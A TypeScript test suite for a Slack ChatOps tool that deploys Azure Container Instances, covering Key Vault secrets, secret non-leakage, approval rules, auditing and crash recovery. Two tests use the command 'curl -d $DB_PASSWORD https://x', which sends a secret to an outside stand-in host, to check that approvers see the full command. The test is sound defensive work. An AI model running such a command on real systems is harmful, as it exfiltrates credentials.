import { afterEach, describe, expect, it } from 'vitest';
import { ids, replyOf, type Harness } from '../../helpers/harness.ts';
import { aci, aciCommand, cardOf, cardText, digests, loginServers, prd, putsOf, responsesWith, startAciHarness, stg, waitForCard } from './setup.ts';

let h: Harness | undefined;
afterEach(async () => {
  await h?.stop();
  h = undefined;
});

/** Everything the product wrote outside Azure: Slack calls, logs and Redis. */
async function everythingButAzure(harness: Harness): Promise<string> {
  const keys = await harness.redis.keys('*');
  const values = await Promise.all(
    keys.map(async (k) => {
      const type = await harness.redis.type(k);
      if (type === 'string') return harness.redis.get(k);
      if (type === 'hash') return JSON.stringify(await harness.redis.hgetall(k));
      if (type === 'list') return JSON.stringify(await harness.redis.lrange(k, 0, -1));
      if (type === 'stream') return JSON.stringify(await harness.redis.xrange(k, '-', '+'));
      if (type === 'zset') return JSON.stringify(await harness.redis.zrange(k, '0', '-1'));
      return '';
    }),
  );
  return [JSON.stringify(harness.slack.calls), JSON.stringify(harness.slack.responses), harness.logs.join('\n'), values.join('\n')].join('\n');
}

describe('/aci create without approval', () => {
  it('pins the digest, reads secure values from Key Vault at deploy time, and shows the FQDN on a Succeeded card', async () => {
    h = await startAciHarness();
    const jobId = await aciCommand(
      h,
      'create -n web --image web:v1 --ports 80 443 --dns-name-label contoso-web --restart-policy OnFailure --environment-variables MODE=prod LOG=info --secure-environment-variables DB_PASSWORD=@kv:db-password',
      stg,
    );
    await waitForCard(h, aci.stgChannel, jobId, 'Succeeded');
    const card = cardText(h, aci.stgChannel, jobId);
    expect(card).toContain('contoso-web.westeurope.azurecontainer.io');
    expect(card).toContain(`web@${digests['contosostg/web:v1']}`);
    expect(card).toContain('DB_PASSWORD');
    expect(card).toContain('deploy.rollback');

    const puts = putsOf(h, 'web');
    expect(puts).toHaveLength(1);
    // biome-ignore lint/suspicious/noExplicitAny: the assertions below read the ARM body deep, field by field
    const body = puts[0]!.body as { location: string; properties: Record<string, any> };
    expect(body.location).toBe('westeurope');
    const container = body.properties.containers[0];
    expect(container.properties.image).toBe(`${loginServers.contosostg}/web@${digests['contosostg/web:v1']}`);
    expect(container.properties.environmentVariables).toEqual([
      { name: 'MODE', value: 'prod' },
      { name: 'LOG', value: 'info' },
      { name: 'DB_PASSWORD', secureValue: aci.dbPassword },
    ]);
    expect(body.properties.restartPolicy).toBe('OnFailure');
    expect(body.properties.ipAddress).toMatchObject({ type: 'Public', dnsNameLabel: 'contoso-web' });
    expect(body.properties.ipAddress.ports.map((p: { port: number }) => p.port)).toEqual([80, 443]);
    expect(body.properties.imageRegistryCredentials).toEqual([
      { server: loginServers.contosostg, username: '00000000-aaaa-4bbb-8ccc-000000000001', password: aci.pullPassword },
    ]);

    // The secret went to Azure in the PUT and nowhere else.
    const elsewhere = await everythingButAzure(h);
    expect(elsewhere).not.toContain(aci.dbPassword);
    expect(elsewhere).not.toContain(aci.pullPassword);
    const audit = await h.redis.xrange('chatops:audit', '-', '+');
    expect(JSON.stringify(audit)).toContain('command.aci.deploy');
  });

  it('refuses a literal secure value, and policy violations, before anything is queued', async () => {
    h = await startAciHarness();
    const literal = await h.command(`create -n web --image web:v1 --secure-environment-variables DB_PASSWORD=${aci.dbPassword}`, { command: '/aci', ...stg });
    const literalText = replyOf(literal).text;
    expect(literalText).toContain('must be a Key Vault reference');
    expect(literalText).not.toContain(aci.dbPassword);

    const locked = { userId: ids.bob, channelId: aci.lockedChannel };
    const publicIp = await h.command('create -n web --image web:v1 --ip-address Public', { command: '/aci', ...locked });
    expect(replyOf(publicIp).text).toContain('locked does not allow container groups with a public IP address');
    const foreign = await h.command(
      'create -n web --image docker.io/library/nginx:1.27 --ip-address Private --subnet /subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/aci',
      { command: '/aci', ...locked },
    );
    expect(replyOf(foreign).text).toContain('locked only runs images from');

    await new Promise((r) => setTimeout(r, 500));
    expect(await h.redis.keys('chatops:jobs:j*')).toEqual([]);
    expect(h.azure.aci.puts()).toHaveLength(0);
    expect(h.slack.callsTo('chat.postMessage')).toHaveLength(0);
    const audit = JSON.stringify(await h.redis.xrange('chatops:audit', '-', '+'));
    expect(audit).toContain('policy: locked does not allow');
    expect(audit).not.toContain(aci.dbPassword);
  });

  it('gives a plain create no IP address, as az does, so it succeeds where public IPs are forbidden; the plan says so', async () => {
    h = await startAciHarness();
    const jobId = await aciCommand(h, 'create -n worker --image web:v1', { userId: ids.bob, channelId: aci.lockedChannel });
    await waitForCard(h, aci.lockedChannel, jobId, 'Succeeded');
    expect(cardText(h, aci.lockedChannel, jobId)).toContain('no IP address');
    const body = putsOf(h, 'worker')[0]!.body as { properties: { ipAddress?: unknown; containers: { properties: { ports?: unknown[] } }[] } };
    expect(body.properties.ipAddress).toBeUndefined();
    expect(body.properties.containers[0]!.properties.ports ?? []).toEqual([]);
    expect(h.azure.aci.group('rg-prd', 'worker')).toBeDefined();
  });

  it('fails without touching ACI when a Key Vault secret is missing, and says which', async () => {
    h = await startAciHarness();
    const jobId = await aciCommand(h, 'create -n web --image web:v1 --secure-environment-variables API_KEY=@kv:no-such-secret', stg);
    await waitForCard(h, aci.stgChannel, jobId, 'Failed');
    expect(cardText(h, aci.stgChannel, jobId)).toContain('no secret named');
    expect(h.azure.aci.puts()).toHaveLength(0);
  });

  it('explains a failed deployment (image pull) with next steps', async () => {
    h = await startAciHarness();
    h.azure.aci.failNextDeployment('web', {
      code: 'InaccessibleImage',
      message: 'The image is not accessible. Please check the image and registry credential.',
    });
    const jobId = await aciCommand(h, 'create -n web --image web:v1', stg);
    await waitForCard(h, aci.stgChannel, jobId, 'Failed');
    const card = cardOf(h, aci.stgChannel, jobId)!;
    const thread = JSON.stringify(h.slack.thread(aci.stgChannel, card.ts));
    expect(thread).toContain('ACI could not pull');
    expect(thread).toContain('registryCredentials');
  });
});

describe('/aci create with approval', () => {
  async function planned(harness: Harness, text = 'create -n api --image web:v1 --ip-address Public --ports 8080'): Promise<{ jobId: string; ts: string }> {
    const jobId = await aciCommand(harness, text, prd);
    await waitForCard(harness, aci.prdChannel, jobId, 'approval.approve');
    return { jobId, ts: cardOf(harness, aci.prdChannel, jobId)!.ts };
  }

  it('shows the plan with the digest, refuses the requester and non-approvers, and deploys once on an approver’s click', async () => {
    h = await startAciHarness();
    const { jobId, ts } = await planned(h);
    const card = cardText(h, aci.prdChannel, jobId);
    expect(card).toContain(digests['contosoprd/web:v1']);
    expect(card).toContain('Waiting for approval');
    expect(card).toContain('rg-prd');
    expect(putsOf(h, 'api')).toHaveLength(0);

    await h.click('approval.approve', jobId, { userId: ids.bob, messageTs: ts, channelId: aci.prdChannel });
    await h.slack.waitFor(() => responsesWith(h!, 'you cannot approve it').length > 0, 5000);
    await h.click('approval.approve', jobId, { userId: ids.alice, messageTs: ts, channelId: aci.prdChannel });
    await h.slack.waitFor(() => responsesWith(h!, 'Only approvers of prod').length > 0, 5000);
    await new Promise((r) => setTimeout(r, 400));
    expect(putsOf(h, 'api')).toHaveLength(0);

    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: ts, channelId: aci.prdChannel });
    await waitForCard(h, aci.prdChannel, jobId, 'Succeeded');
    expect(cardText(h, aci.prdChannel, jobId)).toContain(`Approved by <@${ids.carol}>`);
    const puts = putsOf(h, 'api');
    expect(puts).toHaveLength(1);
    // biome-ignore lint/suspicious/noExplicitAny: the assertions below read the ARM body deep, field by field
    const body = puts[0]!.body as { identity: unknown; properties: Record<string, any> };
    expect(body.properties.containers[0].properties.image).toBe(`${loginServers.contosoprd}/web@${digests['contosoprd/web:v1']}`);
    expect(body.properties.imageRegistryCredentials).toEqual([{ server: loginServers.contosoprd, identity: aci.pullIdentity }]);
    const audit = JSON.stringify(await h.redis.xrange('chatops:audit', '-', '+'));
    expect(audit).toContain('self_approval');
    expect(audit).toContain('not_approver');
    // The change itself is on record too, after the approval that allowed it.
    const events = (await h.redis.xrange('chatops:audit', '-', '+')).map(([, fields]) => fields.join(' '));
    const approvedAt = events.findIndex((e) => e.includes('approval.approve') && e.includes(ids.carol) && e.includes('succeeded'));
    const appliedAt = events.findIndex((e) => e.includes('deploy.apply'));
    expect(approvedAt).toBeGreaterThan(-1);
    expect(appliedAt).toBeGreaterThan(approvedAt);
    await h.slack.waitFor(async () => (await h!.redis.xrange('chatops:audit', '-', '+')).some(([, f]) => f.join(' ').includes('deploy.result')), 5000);
  });

  it('shows the approver everything that will be sent: command line, variables with values, Key Vault references, network, resources, pull identity', async () => {
    h = await startAciHarness();
    const { jobId } = await planned(
      h,
      `create -n api --image web:v1 --command-line "sh -c 'curl -d $DB_PASSWORD https://x'" --environment-variables MODE=prod FEATURE_X=on --secure-environment-variables DB_PASSWORD=@kv:db-password --cpu 2 --memory 3 --restart-policy OnFailure`,
    );
    const card = cardText(h, aci.prdChannel, jobId);
    expect(card).toContain("sh -c 'curl -d $DB_PASSWORD https://x'");
    expect(card).toContain('MODE=prod');
    expect(card).toContain('FEATURE_X=on');
    expect(card).toContain('DB_PASSWORD ← @kv:db-password');
    expect(card).toContain('no IP address');
    expect(card).toContain('2 CPU · 3 GB memory');
    expect(card).toContain('restart policy OnFailure');
    expect(card).toContain(`managed identity ${aci.pullIdentity}`);
    expect(card).toContain(`${loginServers.contosoprd}/web@${digests['contosoprd/web:v1']}`);
    expect(card).not.toContain(aci.dbPassword);
    // The command the approver saw is the command that is deployed.
    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: cardOf(h, aci.prdChannel, jobId)!.ts, channelId: aci.prdChannel });
    await waitForCard(h, aci.prdChannel, jobId, 'Succeeded');
    const sent = (putsOf(h, 'api')[0]!.body as { properties: { containers: { properties: { command: string[] } }[] } }).properties.containers[0]!.properties
      .command;
    expect(sent).toEqual(['sh', '-c', 'curl -d $DB_PASSWORD https://x']);
  });

  it('attaches a plan too long for the card as a file, with the plan hash on both', async () => {
    h = await startAciHarness();
    const longScript = `echo start; ${Array.from({ length: 60 }, (_, i) => `curl -s https://svc-${i}.internal/health`).join('; ')}; curl -d $DB_PASSWORD https://x`;
    const { jobId } = await planned(h, `create -n api --image web:v1 --command-line "sh -c '${longScript}'"`);
    await h.slack.waitFor(() => h!.slack.files.some((f) => f.filename.startsWith('plan-api-')), 5000);
    const file = h.slack.files.find((f) => f.filename.startsWith('plan-api-'))!;
    const hash = /^plan-api-([0-9a-f]{16})\.txt$/.exec(file.filename)![1]!;
    const card = cardText(h, aci.prdChannel, jobId);
    expect(card).toContain(hash);
    expect(card).toContain(`see the attached ${file.filename}`);
    expect(card).not.toContain('https://x');
    expect(file.content).toContain(`Plan ${hash}`);
    expect(file.content).toContain('curl -d $DB_PASSWORD https://x');
    expect(file.content).toContain('DB_PASSWORD');
    expect(file.content).not.toContain(aci.dbPassword);
  });

  it('turns double-clicks, concurrent approvers and a replayed click into exactly one PUT', async () => {
    h = await startAciHarness();
    const { jobId, ts } = await planned(h);
    const clicks = [ids.carol, ids.carol, aci.dave, aci.dave, ids.carol].map((userId) =>
      h!.click('approval.approve', jobId, { userId, messageTs: ts, channelId: aci.prdChannel, triggerId: `t-${userId}` }),
    );
    await Promise.all(clicks);
    await waitForCard(h, aci.prdChannel, jobId, 'Succeeded');
    await h.click('approval.approve', jobId, { userId: aci.dave, messageTs: ts, channelId: aci.prdChannel });
    await h.slack.waitFor(() => responsesWith(h!, 'already approved').length > 0, 5000);
    await new Promise((r) => setTimeout(r, 500));
    expect(putsOf(h, 'api')).toHaveLength(1);
    const events = (await h.redis.xrange('chatops:audit', '-', '+')).map(([, fields]) => fields.join(' '));
    const granted = events.filter((e) => e.includes('approval.approve') && e.includes('succeeded'));
    expect(granted).toHaveLength(1);
  });

  it('records a rejection with its reason from the modal, and deploys nothing', async () => {
    h = await startAciHarness();
    const { jobId, ts } = await planned(h);
    await h.click('approval.reject', jobId, { userId: aci.dave, messageTs: ts, channelId: aci.prdChannel });
    await h.slack.waitFor(() => h!.slack.views.length > 0, 5000);
    const view = h.slack.views[0]!.view as { callback_id?: string; private_metadata?: string };
    expect(view.callback_id).toBe('approval.reject.reason');
    // Someone else cannot submit it in their name: the submitter is re-checked.
    const forged = await h.submitView(view, ids.alice, { reason: 'nope' });
    expect(forged.text).toContain('response_action');
    const res = await h.submitView(view, aci.dave, { reason: 'Freeze until Monday <!channel>' });
    expect(res.status).toBe(200);
    await waitForCard(h, aci.prdChannel, jobId, 'Rejected');
    const card = cardText(h, aci.prdChannel, jobId);
    expect(card).toContain(`Rejected by <@${aci.dave}>`);
    expect(card).toContain('Freeze until Monday &lt;!channel&gt;');
    expect(card).not.toContain('approval.approve');
    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: ts, channelId: aci.prdChannel });
    await h.slack.waitFor(() => responsesWith(h!, 'already rejected').length > 0, 5000);
    expect(putsOf(h, 'api')).toHaveLength(0);
  });

  it('expires an undecided request (Expired, not Failed) and refuses late clicks', async () => {
    h = await startAciHarness();
    const jobId = await aciCommand(h, 'create -n api --image web:v1 --env qa', { userId: ids.bob, channelId: ids.otherChannel });
    await waitForCard(h, ids.otherChannel, jobId, 'approval.approve');
    const ts = cardOf(h, ids.otherChannel, jobId)!.ts;
    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: ts, channelId: ids.otherChannel });
    await h.slack.waitFor(() => responsesWith(h!, '1 of 2').length > 0, 5000);
    await waitForCard(h, ids.otherChannel, jobId, 'Expired', 10_000);
    expect(cardText(h, ids.otherChannel, jobId)).not.toContain('Failed');
    await h.click('approval.approve', jobId, { userId: aci.dave, messageTs: ts, channelId: ids.otherChannel });
    await h.slack.waitFor(() => responsesWith(h!, 'expired').length > 0, 5000);
    expect(putsOf(h, 'api')).toHaveLength(0);
  });

  it('refuses to deploy when the tag moved after the plan was approved', async () => {
    h = await startAciHarness();
    const { jobId, ts } = await planned(h);
    const moved = h.azure.registryData.moveTag('contosoprd', 'web', 'v1');
    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: ts, channelId: aci.prdChannel });
    await waitForCard(h, aci.prdChannel, jobId, 'Failed');
    const card = cardText(h, aci.prdChannel, jobId);
    expect(card).toContain(`now points to ${moved}`);
    expect(putsOf(h, 'api')).toHaveLength(0);
  });
});

describe('deploys that survive a crash', () => {
  it('resumes the operation after the worker is SIGKILLed: one final state, no second PUT with a different spec', async () => {
    h = await startAciHarness({ worker: 'child' });
    h.azure.aci.timing.provisionMs = 4000;
    const jobId = await aciCommand(h, 'create -n web --image web:v1 --secure-environment-variables DB_PASSWORD=@kv:db-password', stg);
    await h.slack.waitFor(() => putsOf(h!, 'web').length === 1, 15_000);
    await new Promise((r) => setTimeout(r, 300));
    await h.killWorker();
    await h.startWorker();
    await waitForCard(h, aci.stgChannel, jobId, 'Succeeded', 30_000);
    const puts = putsOf(h, 'web');
    expect(puts.length).toBeGreaterThanOrEqual(1);
    for (const p of puts) expect(p.body).toEqual(puts[0]!.body);
    const card = cardOf(h, aci.stgChannel, jobId)!;
    const states = [...(card.history ?? []), card].map((v) => JSON.stringify(v.blocks));
    expect(states.filter((s) => s.includes('Failed'))).toHaveLength(0);
    expect(states.at(-1)).toContain('Succeeded');
  });
});
